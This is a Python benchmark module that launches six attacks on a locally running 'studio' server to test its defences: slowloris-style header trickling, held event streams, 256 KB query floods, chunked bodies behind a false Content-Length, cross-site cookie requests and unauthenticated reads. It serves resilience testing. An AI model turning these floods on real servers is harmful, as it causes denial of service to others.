"""The attacks of issue 36 on a running studio, one kind per process, for
``bench_studio_attack.py`` (and by hand): ``python -m benchmarks.attack KIND ADDRESS``.

The address is the one the studio printed (with its token); a kind that attacks as a stranger
drops the token. Each kind prints ``ready`` once its attack is in place, then keeps it up
(connections the studio closes are opened again) until the process is ended.

=================  ==========================================================================
``slow-heads``      1,100 connections, each trickling a request's head a byte at a time (a
                    neighbour; more than a desktop's 1,024 descriptors)
``streams``         45 live event streams held open (with the token: a user's many tabs)
``query-flood``     requests with 256 KB queries, four at a time, without the token
``chunked``         POSTs of chunked bodies behind a small ``Content-Length`` (with the
                    token), four at a time
``cross-site``      a web page's GETs of the layouts zip, with the cookie (``same-site``),
                    four at a time
``no-token``        a neighbour's reads of the rule set's source, without the token, four
                    at a time
=================  ==========================================================================
"""

from __future__ import annotations

import contextlib
import socket
import sys
import time
from collections.abc import Callable
from urllib.parse import urlsplit

__all__ = ["KINDS", "main"]

SLOW_HEADS = 1_100
STREAMS = 45
QUERY_BYTES = 256 * 1024
# Requests a flooding kind has under way at once.
FLOODERS = 4


class Target:
    def __init__(self, address: str) -> None:
        where = urlsplit(address)
        self.host = where.hostname or "127.0.0.1"
        self.port = where.port or 80
        self.token = address.split("token=", 1)[1]

    def connect(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=30)

    def ask(self, head: str, body: bytes = b"") -> None:
        """Send one request and read its answer's first bytes, whatever becomes of it."""
        try:
            with self.connect() as connection:
                connection.sendall(head.encode("latin-1") + body)
                connection.recv(4096)
        except OSError:
            pass


def _ready() -> None:
    print("ready", flush=True)


def slow_heads(target: Target) -> None:
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, SLOW_HEADS + 256), hard))

    def trickle(connection: socket.socket | None) -> socket.socket | None:
        """One more byte of the head, on a connection opened again if the studio closed it."""
        try:
            if connection is None:
                connection = target.connect()
                connection.setblocking(False)
                connection.send(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
            else:
                connection.send(b"a")
            return connection
        except OSError:
            if connection is not None:
                connection.close()
            return None

    _keep_up([None] * SLOW_HEADS, trickle)


def streams(target: Target) -> None:
    head = (
        f"GET /api/live/events HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n"
        f"Authorization: Bearer {target.token}\r\n\r\n"
    ).encode()

    def hold(connection: socket.socket | None) -> socket.socket | None:
        """A stream held open (one the studio refused is asked for again)."""
        if connection is not None:
            return connection
        try:
            connection = target.connect()
            connection.sendall(head)
            connection.recv(1024)
            connection.setblocking(False)
            return connection
        except OSError:
            return None

    _keep_up([None] * STREAMS, hold)


def _keep_up(
    opened: list[socket.socket | None],
    step: Callable[[socket.socket | None], socket.socket | None],
) -> None:
    """``step`` on every connection, once a second, for ever."""
    announced = False
    while True:
        opened[:] = [step(connection) for connection in opened]
        if not announced:
            _ready()
            announced = True
        time.sleep(1.0)


def query_flood(target: Target) -> None:
    query = "type=UAV&UAV.sensor_type=" + "x" * QUERY_BYTES
    head = f"GET /api/solve?{query} HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n\r\n"
    _flood(lambda: target.ask(head))


def chunked(target: Target) -> None:
    head = (
        f"POST /api/rules HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n"
        f"Authorization: Bearer {target.token}\r\nContent-Length: 10\r\n"
        "Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    body = b"10000\r\n" + b"x" * 65536 + b"\r\n"
    _flood(lambda: target.ask(head, body))


def cross_site(target: Target) -> None:
    head = (
        f"GET /api/layouts.zip?type=UAV HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n"
        f"Cookie: teleop_ui_studio_{target.port}={target.token}\r\n"
        "Sec-Fetch-Site: same-site\r\nSec-Fetch-Mode: no-cors\r\n\r\n"
    )
    _flood(lambda: target.ask(head))


def no_token(target: Target) -> None:
    head = f"GET /rules/source HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n\r\n"
    _flood(lambda: target.ask(head))


def _flood(request: Callable[[], None]) -> None:
    """``request`` again and again from :data:`FLOODERS` threads at once."""
    import threading

    def again() -> None:
        while True:
            request()

    for _ in range(FLOODERS):
        threading.Thread(target=again, daemon=True).start()
    _ready()
    threading.Event().wait()


KINDS: dict[str, Callable[[Target], None]] = {
    "slow-heads": slow_heads,
    "streams": streams,
    "query-flood": query_flood,
    "chunked": chunked,
    "cross-site": cross_site,
    "no-token": no_token,
}


def main(argv: list[str]) -> int:
    if len(argv) != 2 or argv[0] not in KINDS:
        print(f"usage: python -m benchmarks.attack {{{','.join(KINDS)}}} ADDRESS", file=sys.stderr)
        return 2
    with contextlib.suppress(KeyboardInterrupt):
        KINDS[argv[0]](Target(argv[1]))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
